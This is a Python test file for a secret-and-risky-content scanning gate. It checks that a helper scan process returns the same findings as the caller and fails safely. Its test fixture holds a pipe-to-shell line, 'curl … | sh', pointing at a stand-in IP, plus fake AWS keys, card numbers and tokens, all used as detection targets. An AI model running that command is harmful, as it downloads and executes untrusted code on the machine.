"""The gate's scan helper process: same findings with or without it, and never a weaker scan."""

from __future__ import annotations

import dataclasses
import logging
import mmap
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kavach.scanning import gate as gate_module
from kavach.scanning import helper as helper_module
from kavach.scanning.engine import WINDOW, PatternBank
from kavach.scanning.gate import ExternalizationPolicy, Gate, bank_named
from kavach.scanning.helper import CHUNK, SPLIT_MIN, HelperError, ScanHelper, _checked

NAMES = ("data", "secrets", "code")
# Findings of every scanner, one every ~3 KiB, so that some sit on the window boundaries
# around wherever the caller's part and the helper's part meet.
SECRETS = (
    b"aws_access_key_id = AKIAIOSFODNN7EXAMPLF\n",
    b"card 4111 1111 1111 1111 exp 12/29 cvv 123\n",
    b"curl -s http://203.0.113.7/x.sh | sh\n",
    b"password = 'Tr0ub4dor&3xq'\n",
    b"mail alice@example.org or call +1 415 555 0100\n",
)


def _artifact(size: int) -> bytes:
    filler = b"lorem ipsum dolor sit amet, total amount of memory 42 kB\n" * 50
    parts: list[bytes] = []
    total = 0
    i = 0
    while total < size:
        part = filler[: 1500 + (i * 397) % 1800] + SECRETS[i % len(SECRETS)]
        parts.append(part)
        total += len(part)
        i += 1
    return b"".join(parts)


def _until_ready(helper: ScanHelper, bank: PatternBank, data: bytes) -> None:
    deadline = time.monotonic() + 60
    while not helper.ready(NAMES):
        assert not helper.disabled, "the helper failed to start"
        assert time.monotonic() < deadline, "the helper did not get ready within 60 s"
        helper.scan(bank, NAMES, data)  # starts it, then asks whether it is ready
        time.sleep(0.05)


@pytest.fixture
def helper() -> Iterator[ScanHelper]:
    made = ScanHelper(bank_named)
    yield made
    made.close()


def test_the_helper_finds_exactly_what_the_caller_finds(helper: ScanHelper) -> None:
    bank = bank_named(NAMES)
    data = _artifact(2 * SPLIT_MIN + 12345)
    alone = bank.validated(data, 0, len(data))
    _until_ready(helper, bank, data)
    deadline = time.monotonic() + 60
    scans = 0
    # Where the two parts meet depends on their speeds: compare at several meeting points.
    while helper.splits < 4 or scans < 8:
        assert helper.scan(bank, NAMES, data) == alone
        scans += 1
        assert time.monotonic() < deadline, "the helper took no part in 4 scans within 60 s"
    assert len(alone) > 100


def test_gate_findings_are_the_same_with_the_helper(helper: ScanHelper, monkeypatch: pytest.MonkeyPatch) -> None:
    data = _artifact(SPLIT_MIN * 3)
    gate = Gate(ExternalizationPolicy())
    monkeypatch.setattr(gate_module, "_HELPER", ScanHelper(bank_named))
    gate_module._HELPER._broken = True  # this one never helps: the reference
    reference = gate.apply(data, "stdout")
    monkeypatch.setattr(gate_module, "_HELPER", helper)
    _until_ready(helper, bank_named(NAMES), data)
    before = helper.splits
    helped = gate.apply(data, "stdout")
    assert helper.splits == before + 1
    assert helped.findings == reference.findings
    assert helped.released == reference.released
    assert helped.verdict == reference.verdict


def test_a_killed_helper_is_replaced_by_the_caller_scanning_itself(
    helper: ScanHelper, caplog: pytest.LogCaptureFixture
) -> None:
    bank = bank_named(NAMES)
    data = _artifact(SPLIT_MIN * 2)
    alone = bank.validated(data, 0, len(data))
    _until_ready(helper, bank, data)
    assert helper._proc is not None
    os.kill(helper._proc.pid, signal.SIGKILL)
    helper._proc.wait()
    with caplog.at_level(logging.WARNING, logger="kavach.scanning.helper"):
        assert helper.scan(bank, NAMES, data) == alone
    assert helper.disabled
    assert "scan helper disabled" in caplog.text
    assert helper.scan(bank, NAMES, data) == alone  # and without it from now on


def test_a_helper_with_other_rules_is_never_used(caplog: pytest.LogCaptureFixture) -> None:
    bank = bank_named(NAMES)
    other = bank_named(("secrets",))
    # The caller believes the helper should have built `other`: the digests differ.
    helper = ScanHelper(lambda names: other)
    data = _artifact(SPLIT_MIN * 2)
    try:
        deadline = time.monotonic() + 60
        with caplog.at_level(logging.WARNING, logger="kavach.scanning.helper"):
            while not helper.disabled and time.monotonic() < deadline:
                assert helper.scan(bank, NAMES, data) == bank.validated(data, 0, len(data))
                time.sleep(0.05)
        assert helper.disabled
        assert "different rules" in caplog.text
        assert helper.splits == 0
    finally:
        helper.close()


class _StaleFront:
    """The progress marks as a caller with a stale view of the helper's front reads them."""

    def __init__(self, front: int) -> None:
        self.size = helper_module._MARK.size
        self._front = front
        self._real = helper_module._MARK

    def pack_into(self, buffer: mmap.mmap, offset: int, value: int) -> None:
        self._real.pack_into(buffer, offset, value)

    def unpack_from(self, buffer: mmap.mmap, offset: int) -> tuple[int]:
        return (self._front,) if offset == helper_module._FRONT_AT else self._real.unpack_from(buffer, offset)


@pytest.mark.parametrize("front", [0, 10**9], ids=["believes-the-helper-did-everything", "never-sees-the-helper"])
def test_a_stale_view_of_the_helpers_progress_neither_misses_nor_repeats_a_window(
    helper: ScanHelper, monkeypatch: pytest.MonkeyPatch, front: int
) -> None:
    # The progress page is only a hint. A caller that stops at once leaves a gap below the
    # helper's real front, which it must scan itself; a caller that scans on past the
    # helper's front must not report the windows both of them scanned twice.
    bank = bank_named(NAMES)
    data = _artifact(SPLIT_MIN * 3)
    alone = bank.validated(data, 0, len(data))
    _until_ready(helper, bank, data)
    monkeypatch.setattr(helper_module, "_MARK", _StaleFront(front))
    for _ in range(3):
        assert helper.scan(bank, NAMES, data) == alone
    assert not helper.disabled


def test_the_helper_answers_with_its_front_at_a_chunk_boundary(
    helper: ScanHelper, monkeypatch: pytest.MonkeyPatch
) -> None:
    bank = bank_named(NAMES)
    data = _artifact(SPLIT_MIN * 2 + 5000)
    _until_ready(helper, bank, data)
    fronts: list[int] = []
    collect = helper._collect

    def recording(timeout: float, bank: PatternBank, size: int, windows: int) -> tuple[int, list[Any]] | None:
        answer = collect(timeout, bank, size, windows)
        assert answer is not None
        fronts.append(answer[0])
        return answer

    monkeypatch.setattr(helper, "_collect", recording)
    windows = -(-len(data) // WINDOW)
    for _ in range(5):
        helper.scan(bank, NAMES, data)
    assert fronts and all(f == windows or (f % CHUNK == 0 and 0 <= f < windows) for f in fronts)


@pytest.mark.parametrize(
    "bad",
    [
        ["found", 3, []],  # not a chunk boundary
        ["found", -16, []],
        ["found", 10**6, []],  # past the artifact
        ["found", "16", []],
        ["found", 16, {}],
    ],
)
def test_a_malformed_front_is_refused(helper: ScanHelper, bad: list[object], monkeypatch: pytest.MonkeyPatch) -> None:
    bank = bank_named(NAMES)
    data = _artifact(SPLIT_MIN * 2)
    alone = bank.validated(data, 0, len(data))
    _until_ready(helper, bank, data)
    real = helper_module._message
    monkeypatch.setattr(helper_module, "_message", lambda sock: (real(sock), bad)[1])
    assert helper.scan(bank, NAMES, data) == alone
    assert helper.disabled


def test_an_error_in_the_callers_part_stops_the_helper_so_no_answer_is_read_for_another_artifact(
    helper: ScanHelper,
) -> None:
    bank = bank_named(NAMES)
    first = _artifact(SPLIT_MIN * 2)
    # Another artifact: its matches sit elsewhere, so a stale answer would not fit it.
    other = b"x" * 777 + _artifact(SPLIT_MIN * 2)[::-1]
    _until_ready(helper, bank, first)
    started = helper._proc
    assert started is not None

    def failing() -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        helper.scan(bank, NAMES, first, failing)
    assert started.poll() is not None and helper.pid is None and not helper.disabled  # stopped, not given up on
    assert helper.scan(bank, NAMES, other) == bank.validated(other, 0, len(other))
    _until_ready(helper, bank, other)  # a new helper
    assert helper._proc is not None and helper._proc is not started
    assert helper.scan(bank, NAMES, other) == bank.validated(other, 0, len(other))


def test_meanwhile_runs_exactly_once_whoever_scans(helper: ScanHelper, monkeypatch: pytest.MonkeyPatch) -> None:
    bank = bank_named(NAMES)
    data = _artifact(SPLIT_MIN * 2)
    calls: list[int] = []
    # Alone (too small), while the helper starts, and split with a ready helper.
    helper.scan(bank, NAMES, data[: SPLIT_MIN - 1], lambda: calls.append(1))
    helper.scan(bank, NAMES, data, lambda: calls.append(2))
    _until_ready(helper, bank, data)
    helper.scan(bank, NAMES, data, lambda: calls.append(3))
    assert calls == [1, 2, 3]


def test_small_artifacts_and_the_off_switch_start_no_process(monkeypatch: pytest.MonkeyPatch) -> None:
    bank = bank_named(NAMES)
    small = ScanHelper(bank_named)
    small.scan(bank, NAMES, _artifact(SPLIT_MIN - 4096)[: SPLIT_MIN - 1])
    assert small._proc is None
    monkeypatch.setenv("KAVACH_SCAN_HELPER", "0")
    off = ScanHelper(bank_named)
    data = _artifact(SPLIT_MIN * 2)
    assert off.scan(bank, NAMES, data) == bank.validated(data, 0, len(data))
    assert off.disabled and off._proc is None


@pytest.mark.parametrize(
    "item",
    [
        [5, 10, 20],  # three fields
        [999, 10, 20, 0.9],  # no such rule
        [-1, 10, 20, 0.9],
        [1, 20, 20, 0.9],  # empty span
        [1, 20, 10, 0.9],  # reversed
        [1, 10, 101, 0.9],  # past the artifact
        [1, "10", 20, 0.9],
        [1, 10, 20, "high"],
        "1,10,20,0.9",
    ],
)
def test_malformed_answers_are_refused(item: object) -> None:
    with pytest.raises(HelperError):
        _checked([[0, 1, 2, 0.5], item], rules=10, size=100)
    assert _checked([[0, 1, 2, 0.5], [9, 0, 100, 1]], rules=10, size=100) == [(0, 1, 2, 0.5), (9, 0, 100, 1)]


def test_a_forked_child_does_not_talk_to_its_parents_helper(helper: ScanHelper) -> None:
    bank = bank_named(NAMES)
    data = _artifact(SPLIT_MIN * 2)
    alone = bank.validated(data, 0, len(data))
    _until_ready(helper, bank, data)
    parents_helper = helper.pid
    assert parents_helper is not None
    pid = os.fork()
    if pid == 0:  # the child: its scans must not go to (or disturb) the parent's helper
        code = 0
        try:
            if helper.scan(bank, NAMES, data) != alone:
                code = 1
            elif helper.pid == parents_helper:
                code = 2  # it kept (and may have used) the parent's helper
        except BaseException:  # reported through the exit code
            code = 3
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0
    before = helper.splits
    assert helper.scan(bank, NAMES, data) == alone  # the parent's helper still answers, in order
    assert helper.splits == before + 1


_SRC = Path(__file__).resolve().parents[1] / "src"


def _caller_program(data: str, then: str, before: str = "") -> str:
    """A caller (run with ``python -I -c``) that scans ``data`` (an expression) with a
    ScanHelper until the helper is ready or off, then runs ``then``."""
    return (
        "import os, signal, sys, time\n"
        f"sys.path[:0] = [{str(_SRC)!r}]\n"
        f"{before}"
        "from kavach.scanning.gate import bank_named\n"
        "from kavach.scanning.helper import ScanHelper\n"
        "names = ('data', 'secrets', 'code')\n"
        "bank = bank_named(names)\n"
        f"data = {data}\n"
        "helper = ScanHelper(bank_named)\n"
        "deadline = time.monotonic() + 60\n"
        "while not helper.ready(names) and not helper.disabled and time.monotonic() < deadline:\n"
        "    helper.scan(bank, names, data); time.sleep(0.05)\n"
        f"{then}"
    )


def test_the_helper_does_not_import_from_the_callers_working_directory(tmp_path: Path) -> None:
    # A module planted where the caller runs (`json` and `socket` are imported by the helper)
    # must not run in the helper: it starts in isolated mode with the caller's own path.
    marker = tmp_path / "planted-module-ran"
    for name in ("json", "socket", "kavach"):
        planted = tmp_path / f"{name}.py"
        planted.write_text(f"open({str(marker)!r}, 'w').close()\n")
    script = _caller_program(
        "b'password = \"Tr0ub4dor&3xq\"\\n' * 20000",
        "assert helper.scan(bank, names, data) == bank.validated(data, 0, len(data))\n"
        "print(helper.splits, helper.disabled)\n",
    )
    # -I for the caller too: only the helper's own start is under test here.
    done = subprocess.run(
        [sys.executable, "-I", "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr
    splits, disabled = done.stdout.split()
    assert int(splits) >= 1 and disabled == "False"
    assert not marker.exists()


def test_the_bank_digest_is_the_same_in_every_process_and_covers_validators() -> None:
    script = (
        f"import sys; sys.path[:0] = [{str(_SRC)!r}]\n"
        "from kavach.scanning.gate import bank_named\n"
        "print(bank_named(('data', 'secrets', 'code')).digest())\n"
    )
    digests = {
        subprocess.run(
            [sys.executable, "-c", script],  # (not -I, which would ignore PYTHONHASHSEED)
            env={**os.environ, "PYTHONHASHSEED": seed},
            capture_output=True,
            text=True,
            timeout=60,
            check=True,
        ).stdout.strip()
        for seed in ("1", "2", "3")
    }
    assert digests == {bank_named(NAMES).digest()}
    # Same rules, one validator's code different: another digest.
    bank = bank_named(NAMES)
    index = next(i for i, rule in enumerate(bank.rules) if rule.validate is not None)
    rules = list(bank.rules)
    rules[index] = dataclasses.replace(rules[index], validate=lambda data, start, end, spans: None)
    assert PatternBank(rules, bank.owners).digest() != PatternBank(bank.rules, bank.owners).digest()


def test_shared_memory_of_a_large_artifact_is_given_back(helper: ScanHelper) -> None:
    bank = bank_named(NAMES)
    small = _artifact(SPLIT_MIN * 2)
    _until_ready(helper, bank, small)
    large = _artifact(9 << 20)
    assert helper.scan(bank, NAMES, large) == bank.validated(large, 0, len(large))
    assert helper.splits >= 1 and not helper.disabled
    assert os.fstat(helper._memfd).st_size == 0  # the 9 MiB are not kept
    assert helper.scan(bank, NAMES, small) == bank.validated(small, 0, len(small))
    assert os.fstat(helper._memfd).st_size == 4 << 20


def test_a_dead_helper_does_not_kill_a_caller_with_default_sigpipe() -> None:
    script = _caller_program(
        "b'token = \"ghp_' + b'a1B2' * 9 + b'\"\\n' + b'x' * 400000",
        "os.kill(helper.pid, signal.SIGKILL); time.sleep(0.2)\n"
        "assert helper.scan(bank, names, data) == bank.validated(data, 0, len(data))\n"
        "print('alive', helper.disabled)\n",
        before="signal.signal(signal.SIGPIPE, signal.SIG_DFL)  # as some embedding programs do\n",
    )
    done = subprocess.run(
        [sys.executable, "-I", "-c", script], capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, (done.returncode, done.stderr)
    assert done.stdout.split() == ["alive", "True"]


@pytest.mark.parametrize("executable", ["", None])
def test_no_executable_to_start_it_means_scanning_alone(
    executable: str | None, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(sys, "executable", executable)  # as Python reports it when embedded
    bank = bank_named(NAMES)
    helper = ScanHelper(bank_named)
    data = _artifact(SPLIT_MIN * 2)
    with caplog.at_level(logging.WARNING, logger="kavach.scanning.helper"):
        assert helper.scan(bank, NAMES, data) == bank.validated(data, 0, len(data))
    assert helper.disabled and helper.pid is None
    assert "sys.executable is empty" in caplog.text
